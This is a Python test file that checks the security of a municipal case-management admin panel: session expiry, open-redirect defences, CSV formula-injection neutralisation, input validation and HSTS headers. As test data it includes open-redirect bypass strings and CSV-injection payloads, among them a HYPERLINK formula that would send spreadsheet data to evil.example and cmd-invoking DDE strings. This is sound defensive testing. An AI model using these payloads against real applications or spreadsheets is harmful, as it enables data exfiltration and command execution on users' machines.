"""The panel under attack: sessions that end server-side (logout, password change,
deactivation), no open redirect after login, and a CSV export safe to open in a spreadsheet."""
from __future__ import annotations

import csv
import io

import pytest

from admin.security import SESSION_COOKIE, safe_next
from tests.support.panel import PASSWORD, csrf_of, login, new_case, post_form


def _cookie(client) -> str:
    return client.session.cookie_jar.filter_cookies(client.make_url("/"))[SESSION_COOKIE].value


async def _opens_panel(panel, cookie: str) -> bool:
    async with panel.client() as thief:
        thief.session.cookie_jar.update_cookies({SESSION_COOKIE: cookie})
        r = await thief.get("/casos", allow_redirects=False)
        return r.status == 200


# -- sessions ------------------------------------------------------------------------------------

async def test_a_cookie_copied_before_logout_is_refused_after_it(panel):
    async with panel.client("bruno") as c:
        copied = _cookie(c)
        assert await _opens_panel(panel, copied)  # the copy works while the session lives
        r = await post_form(c, "/", "/logout", {})
        assert r.status == 302 and r.headers["Location"] == "/login"
        assert (await c.get("/casos", allow_redirects=False)).status == 302
    assert not await _opens_panel(panel, copied)


async def test_password_change_ends_the_other_sessions_and_keeps_this_one(panel):
    async with panel.client("bruno") as other_device, panel.client("bruno") as c:
        elsewhere = _cookie(other_device)
        wrong = await post_form(c, "/senha", "/senha", {"current": "errada", "new": "x" * 12,
                                                       "repeat": "x" * 12})
        assert wrong.status == 400 and "senha atual está incorreta" in await wrong.text()
        assert await _opens_panel(panel, elsewhere)  # nothing changed yet
        r = await post_form(c, "/senha", "/senha", {"current": PASSWORD,
                                                    "new": "outra-senha-longa",
                                                    "repeat": "outra-senha-longa"})
        assert r.status == 302 and r.headers["Location"] == "/"
        assert (await c.get("/casos", allow_redirects=False)).status == 200  # still signed in
        assert not await _opens_panel(panel, elsewhere)
        assert (await other_device.get("/casos", allow_redirects=False)).status == 302
    async with panel.client() as c:
        assert (await login(c, "bruno")).status == 401  # the old password is gone
        assert (await login(c, "bruno", "outra-senha-longa")).status == 302


async def test_deactivation_ends_the_users_sessions_for_good(panel):
    async with panel.client("bruno") as bruno, panel.client("ana") as ana:
        copied = _cookie(bruno)
        users = await ana.get("/usuarios")
        bruno_id = next(u.id for u in await _users(panel) if u.username == "bruno")
        token = csrf_of(await users.text())
        await ana.post(f"/usuarios/{bruno_id}/ativo", data={"csrf": token, "active": "0"},
                       allow_redirects=False)
        assert not await _opens_panel(panel, copied)
        await ana.post(f"/usuarios/{bruno_id}/ativo", data={"csrf": token, "active": "1"},
                       allow_redirects=False)
        assert not await _opens_panel(panel, copied)  # reactivated: the old cookie stays dead
        assert (await bruno.get("/casos", allow_redirects=False)).status == 302


async def _users(panel):
    from core.services.staff.accounts import list_users
    return await list_users(panel.core)


# -- open redirect -------------------------------------------------------------------------------

BYPASSES = ["//evil.example", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example",
            "/\\evil.example", "\\\\evil.example", "/\\/evil.example", "https:evil.example",
            "https://evil.example", "javascript:alert(1)", "/%09/evil.example",
            "/%0a/evil.example", "/%5Cevil.example", "/%2F%2Fevil.example", "%2F%2Fevil.example",
            "/\x00/evil.example", " //evil.example", "evil.example", "///evil.example"]


@pytest.mark.parametrize("target", BYPASSES)
def test_next_refuses_every_usual_bypass(target):
    assert safe_next(target) == "/"


def test_next_keeps_local_paths():
    for local in ("/", "/casos", "/casos?state=reported&q=ABC1D23",
                  "/casos?neighbourhood=Vila%20Nova", "/casos/2026-000001"):
        assert safe_next(local) == local


async def test_login_never_redirects_off_the_panel(panel):
    async with panel.client() as c:
        for target in BYPASSES[:8]:
            got = await c.get("/login", params={"next": target})
            if got.status == 400:  # control characters in the address: refused outright
                assert "caracteres de controle" in await got.text()
            else:
                assert 'name="next" value="/"' in await got.text()
            token = csrf_of(await (await c.get("/login")).text())
            r = await c.post("/login", data={"username": "bruno", "password": PASSWORD,
                                             "csrf": token, "next": target},
                             allow_redirects=False)
            assert r.status == 302 and r.headers["Location"] == "/", target
            await post_form(c, "/", "/logout", {})
        r = await post_form(c, "/login", "/login", {"username": "bruno", "password": PASSWORD,
                                                    "next": "/casos?state=reported"})
        assert r.headers["Location"] == "/casos?state=reported"


# -- CSV -----------------------------------------------------------------------------------------

async def test_csv_cells_cannot_run_as_formulas(panel, photo):
    """OWASP CSV injection: text a citizen typed that starts with = + - @ tab or CR is
    prefixed with a quote; the export is never sniffed nor cached."""
    core = panel.core
    hostile = {1: '=HYPERLINK("http://evil.example?"&A1,"Clique")', 2: "+55 (37) 9999",
               3: "-2+3+cmd|' /C calc'!A0", 4: "@SUM(1+1)*cmd|' /C calc'!A0",
               5: "\t=1+1", 6: "\r=1+1"}
    for i, text in hostile.items():
        await new_case(core, photo, i, address=text, neighbourhood=text)
    async with panel.client("bruno") as c:
        r = await c.get("/exportar/casos.csv")
        body = (await r.read()).decode("utf-8-sig")
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        assert r.headers["Cache-Control"] == "no-store"
        assert r.headers["Content-Disposition"].startswith("attachment")
        quoted = await c.get("/exportar/casos.csv", params={"q": "' OR \"1\"=\"1"})
        assert quoted.status == 400  # a clear page before any CSV byte, not a cut download
        assert "protocolo" in await quoted.text()
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    header, rows = rows[0], rows[1:]
    address = header.index("endereço")
    neighbourhood = header.index("bairro")
    got = sorted((r[address], r[neighbourhood]) for r in rows)
    # Typed text is trimmed when a report is taken (core.parsing.parse_text), so the tab and CR
    # cases reach the export as "=1+1": neutralised all the same.
    assert got == sorted(("'" + t.strip(), "'" + t.strip()) for t in hostile.values())
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# -- bad input -----------------------------------------------------------------------------------

async def test_the_reported_hostile_values_get_a_clear_400(panel):
    """Values a careless handler would answer with a 500: each is a 400 with the reason."""
    async with panel.client("bruno") as c:
        for url, params, reason in [
                ("/casos", {"inspector": "99999999999999999999999"}, "Fiscal: valor inválido"),
                ("/casos", {"inspector": "²"}, "Fiscal: valor inválido"),
                ("/casos", {"q": "a\x00b"}, "caracteres de controle"),
                ("/casos", {"date_to": "31/12/9999"}, "Ano fora do intervalo"),
                ("/casos", {"after": "ZZZZ"}, "Página inválida"),
                ("/exportar/casos.csv", {"q": "'\""}, "informe um protocolo"),
                ("/patio", {"split": "2026-000001", "gross": "1e999999"}, "Não entendi o valor")]:
            r = await c.get(url, params=params)
            assert r.status == 400, (url, params)
            assert reason in await r.text(), (url, params)


# -- HTTPS and redirects after an error ------------------------------------------------------------

async def test_hsts_on_every_response_when_the_cookie_is_secure(make_core, photo):
    """ADMIN_COOKIE_SECURE=true means the panel is served over HTTPS: every response, pages,
    files, errors, the API and redirects alike, tells the browser to keep to it."""
    from tests.support.panel import Panel
    secure = Panel(await make_core(admin_cookie_secure=True))
    case = await new_case(secure.core, photo, 0)
    paths = ["/login", "/publico", "/publico/mapa.json", f"/publico/protocolo/{case.protocol}",
             f"/publico/protocolo/{case.protocol}/foto", "/publico/protocolo/2026-999999",
             "/static/public.css", "/nao-existe", "/open311/v2/services.json", "/casos",
             "/publico/mapa.json?bbox=x", "/publico/proprietario/ZZZZ-ZZZZ"]
    async with secure.client() as c:
        for path in paths:
            r = await c.get(path, allow_redirects=False)
            assert r.headers.get("Strict-Transport-Security", "").startswith("max-age="), \
                (path, r.status)
        r = await c.post("/publico/proprietario", data={"codigo": "x"})  # CSRF refused
        assert r.status == 403 and "Strict-Transport-Security" in r.headers
    plain = Panel(await make_core())  # plain HTTP (development): no HSTS
    async with plain.client() as c:
        assert "Strict-Transport-Security" not in (await c.get("/publico")).headers


async def test_an_error_after_a_post_never_redirects_off_the_panel(panel):
    """The redirect after a refused POST goes back to the Referer only when safe_next accepts
    its path, as after login."""
    async with panel.client() as c:
        form = await c.get("/publico/proprietario")
        token = csrf_of(await form.text())
        host = c.make_url("/").host + ":" + str(c.make_url("/").port)
        long_code = "K" * 60  # past the field's 40 characters: a user error
        for back in (f"http://{host}//evil.example/x", f"http://{host}/\\evil.example",
                     f"http://{host}/%2F%2Fevil.example", f"http://{host}/\t/evil.example",
                     f"http://{host}@evil.example/x", "http://evil.example/publico"):
            r = await c.post("/publico/proprietario", data={"csrf": token, "codigo": long_code},
                             headers={"Referer": back}, allow_redirects=False)
            assert r.status == 400, (back, r.status, r.headers.get("Location"))
            assert "no máximo 40 caracteres" in await r.text()
        r = await c.post("/publico/proprietario", data={"csrf": token, "codigo": long_code},
                         headers={"Referer": f"http://{host}/publico/proprietario"},
                         allow_redirects=False)
        assert r.status == 302 and r.headers["Location"] == "/publico/proprietario"


# -- who may see what ------------------------------------------------------------------------------

async def test_who_may_see_the_indicators(panel):
    """Staff and admins see the city's numbers; anonymous visitors go to the login."""
    for url in ("/indicadores", "/indicadores.csv?grafico=desfechos"):
        async with panel.client() as anon:
            r = await anon.get(url, allow_redirects=False)
            assert r.status == 302 and r.headers["Location"].startswith("/login")
        for user in ("bruno", "ana"):
            async with panel.client(user) as c:
                assert (await c.get(url)).status == 200, (url, user)
